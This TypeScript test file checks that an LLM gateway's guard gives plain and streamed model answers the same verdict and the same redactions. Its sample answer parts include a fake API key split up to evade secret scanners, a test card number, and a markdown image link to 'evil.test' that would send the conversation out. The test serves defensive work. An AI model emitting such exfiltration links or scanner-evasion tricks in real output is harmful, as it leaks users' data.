import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { DialectId } from "../../src/dialects/dialect.ts";
import { dialects } from "../../src/dialects/registry.ts";
import { screenPlainAnswer } from "../../src/gateway/guarding/answer/screen-plain-answer.ts";
import { message, text } from "../flows/anthropic-answers.ts";
import { generated } from "../flows/gemini-answers.ts";
import { chatCompletion, outputMessage, response } from "../flows/openai-answers.ts";
import { guarded, guardsOf, type RunParts } from "./support/guarded-run.ts";
import { saidIn, says } from "./support/streams.ts";

const canary = "bcdfghjkmnpqrstv";
// Put together here, so that no scanner takes this file for a leak.
const key = `${"sk-ant"}-api03-q7Wm2KxZ9vRt4LpB8nYc3HdF6gJs5TaQ1eUi`;

/** What an answer is made of: harmless, to be redacted, to be put back, and to be blocked. */
const parts = [
  "The answer goes on for a while. ",
  "It says what it has to say, ",
  "and then [email-1] again. ",
  `It is ${key} , yes. `,
  "My card is 4111 1111 1111 1111 , ok. ",
  "![see](https://evil.test/p?q={conversation}) ",
] as const;
const leak = `The marker is ${canary} , yes. `;

const plain: Readonly<Record<string, (said: string) => object>> = {
  "openai-chat": (content) => chatCompletion({ content }),
  "openai-responses": (said) => response([outputMessage(said)]),
  "anthropic-messages": (said) => message([text(said)]),
  gemini: (said) => generated([{ text: said }], "STOP"),
};

const policy = { actions: { pii: "redact", exfiltration: "redact" }, window: { bytes: "64B" } } as const;

/** What the caller reads of a plain answer, or the code of its refusal. */
function plainly(run: RunParts & { readonly id: DialectId }, said: string) {
  const guards = guardsOf(run);
  const bytes = Buffer.from(JSON.stringify(plain[run.id]?.(said)));
  try {
    const shown = screenPlainAnswer({ dialect: dialects[run.id], guards }, bytes, { monotonic: () => 0 });
    return { verdict: guards.verdict, said: dialects[run.id].texts.answer(shown).texts[0]?.text };
  } catch {
    return { verdict: guards.verdict, said: guards.refusal?.code };
  }
}

describe.each(says)("an answer in %s", (_name, id, say, contentType) => {
  it("has the same verdict, and says the same, plain and streamed", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...parts), { minLength: 1, maxLength: 12 }),
        fc.boolean(),
        fc.integer({ min: 1, max: 40 }),
        fc.constantFrom(0, 50, 500),
        (chosen, leaks, length, gapMs) => {
          const said = chosen.join("") + (leaks ? leak : "");
          const pieces = said.match(new RegExp(`[^]{1,${length}}`, "g")) ?? [];
          const run: RunParts = { id, contentType, policy, canary, redacted: ["ada@mail.example.org"] };
          const events = say(pieces).split(/(?<=\n\n)/);
          const streamed = guarded(
            run,
            events.map((one) => Buffer.from(one)),
            gapMs,
          );
          const heard = saidIn(id, Buffer.concat(streamed.chunks), contentType)[0];
          const expected = plainly(run, said);
          expect(streamed.guards.verdict).toBe(expected.verdict);
          expect(streamed.guards.refusal?.code ?? heard).toBe(expected.said);
        },
      ),
      { numRuns: 60 },
    );
  });
});
